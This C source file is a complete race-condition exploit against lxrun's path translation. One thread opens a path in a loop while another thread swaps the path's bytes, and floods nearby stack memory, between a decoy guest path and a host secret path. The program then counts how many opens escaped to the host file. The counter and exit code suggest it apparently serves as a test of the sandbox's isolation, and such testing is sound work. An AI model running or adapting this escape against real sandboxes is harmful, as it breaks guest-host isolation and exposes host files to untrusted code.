/* A guest that races lxrun's path translation. One thread opens a path in a tight loop with raw
 * syscalls; another flips that path's bytes between a harmless guest path and a host path, and
 * floods the stack region below the first thread's stack pointer (where a tracer may write its
 * rewritten path) with the host path. Prints how many opens read the host's secret.
 *   pathrace HOST_SECRET_PATH DECOY_PATH ITERATIONS [first]
 * With `first`, stops at the first open that read the secret. */
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static volatile char path[256];
static volatile unsigned long target_sp;
static volatile int stop, stopped;
static const char *secret, *decoy;

static long sys3(long n, long a, long b, long c) {
    long r;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}

static void put(volatile char *dst, const char *src) {
    do
        *dst++ = *src;
    while (*src++);
}

static void *flipper(void *arg) {
    (void)arg;
    while (!stop) {
        unsigned long sp = target_sp;
        if (sp)
            for (unsigned long a = (sp - 128 - 4096) & ~15UL; a + 256 < sp - 128; a += 64)
                put((volatile char *)a, secret);
        put(path, secret);
        put(path, decoy);
    }
    stopped = 1;
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 4 && argc != 5)
        return 2;
    int first = argc == 5 && strcmp(argv[4], "first") == 0;
    secret = argv[1];
    decoy = argv[2];
    long iters = atol(argv[3]), escaped = 0, opened = 0;
    char buf[64];
    pthread_t t;
    put(path, decoy);
    pthread_create(&t, NULL, flipper, NULL);
    unsigned long sp;
    __asm__ volatile("mov %%rsp, %0" : "=r"(sp));
    target_sp = sp;
    for (long i = 0; i < iters; i++) {
        long fd = sys3(2, (long)path, O_RDONLY, 0);
        if (fd < 0)
            continue;
        opened++;
        long n = sys3(0, fd, (long)buf, 11);
        sys3(3, fd, 0, 0);
        if (n == 11 && buf[0] == 'H' && buf[5] == 'S' && buf[10] == 'T') {
            escaped++;
            if (first)
                break;
        }
    }
    target_sp = 0;
    stop = 1;
    while (!stopped)
        ;
    pthread_join(t, NULL);
    printf("opened %s, escaped %ld\n", opened > 0 ? "some" : "none", escaped);
    return escaped ? 1 : 0;
}
